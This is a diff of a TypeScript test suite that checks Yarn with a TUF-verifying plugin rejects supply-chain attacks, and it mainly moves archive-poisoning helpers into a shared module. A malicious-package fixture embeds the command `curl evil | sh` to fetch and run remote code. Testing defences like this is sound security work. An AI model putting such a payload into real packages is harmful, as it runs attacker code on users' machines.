@@ -1,15 +1,16 @@
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
-import { readFile, readdir, writeFile, mkdir } from 'node:fs/promises';
+import { readFile, writeFile, mkdir } from 'node:fs/promises';
 import { join } from 'node:path';
 import { execFileSync, spawn } from 'node:child_process';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { addPackageVersion, buildPackageTarball, tarballFile, targetPathFor } from '@tufpm/registry';
+import { buildPackageTarball, tarballFile, targetPathFor } from '@tufpm/registry';
 import { createAttackWorld, createExpiredTimestampWorld, createSignerWorld, publishNativePair, withMixedRoleFile, withOverLengthTimestamp } from '../src/harness/attack-worlds.js';
 import { NpmWorld } from '../src/harness/npm-world.js';
 import { refusedYarn } from '../src/harness/attacks-graph.js';
 import { YarnProject } from '../src/harness/yarn.js';
+import { PATCH, archiveOf, poison, poisonCachedArchive, publishPatchable } from '../src/harness/yarn-archives.js';
 import { publishClaimedWithOnlineKeys, rollbackTargetsPastClaimInWorld, unclaimAndPublishInBin } from '../src/harness/attacks-signer.js';
 
 // The TUF attack list against real Yarn 4 with the tufpm plugin, one test per attack. Every refused install
@@ -18,35 +19,6 @@ import { publishClaimedWithOnlineKeys, rollbackTargetsPastClaimInWorld, unclaimA
 
 const evilTarball = (name: string, version: string): Uint8Array =>
   buildPackageTarball({ name, version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });
-
-/** A poisoned copy of a Yarn archive: the same zip with its code replaced (archives are stored, c0). */
-function poison(zip: Buffer): Buffer {
-  const at = zip.indexOf('module.exports');
-  assert.ok(at > 0, 'stored archive holds the code in clear');
-  const out = Buffer.from(zip);
-  out.write('process.exit(66);//', at, 'latin1');
-  return out;
-}
-
-async function archiveOf(dir: string, prefix: string): Promise<string> {
-  const file = (await readdir(dir)).find((f) => f.startsWith(prefix) && f.endsWith('.zip'));
-  assert.ok(file, `archive ${prefix}* in ${dir}`);
-  return join(dir, file);
-}
-
-/**
- * Poisons the cached archive `prefix*` in place and, since Yarn names cache files after their checksum, also
- * writes it under the name of its new checksum (what an attacker who can write the cache does). Returns both.
- */
-async function poisonCachedArchive(cacheFolder: string, prefix: string): Promise<{ oldSum: string; newSum: string }> {
-  const cached = await archiveOf(cacheFolder, prefix);
-  const evil = poison(await readFile(cached));
-  const oldSum = await YarnProject.checksumOf(cached);
-  await writeFile(cached, evil);
-  const newSum = await YarnProject.checksumOf(cached);
-  await writeFile(cached.replace(oldSum.slice(5, 15), newSum.slice(5, 15)), evil);
-  return { oldSum, newSum };
-}
 
 describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
   let world: NpmWorld;
@@ -287,19 +259,9 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
   });
 
   test('rejects a poisoned patched archive (patch: protocol) whose yarn.lock checksum was edited to match', async () => {
-    const tarball = buildPackageTarball({ name: 'patchme', version: '1.0.0', files: { 'index.js': 'module.exports = "original";\n' } });
-    await addPackageVersion(world.registryDir, tarball, { durable: false });
-    await world.repo.publishTarball(tarball);
+    await publishPatchable(world, 'patchme');
     const project = await YarnProject.create(world, { patchme: 'patch:patchme@npm%3A1.0.0#./patchme.patch' });
-    await project.write('patchme.patch', [
-      'diff --git a/index.js b/index.js',
-      '--- a/index.js',
-      '+++ b/index.js',
-      '@@ -1 +1 @@',
-      '-module.exports = "original";',
-      '+module.exports = "patched";',
-      '',
-    ].join('\n'));
+    await project.write('patchme.patch', PATCH);
     const install = await project.yarn(['install']);
     assert.equal(install.code, 0, install.stdout);
     assert.match((await project.yarn(['node', '-p', 'require("patchme")'])).stdout, /patched/);
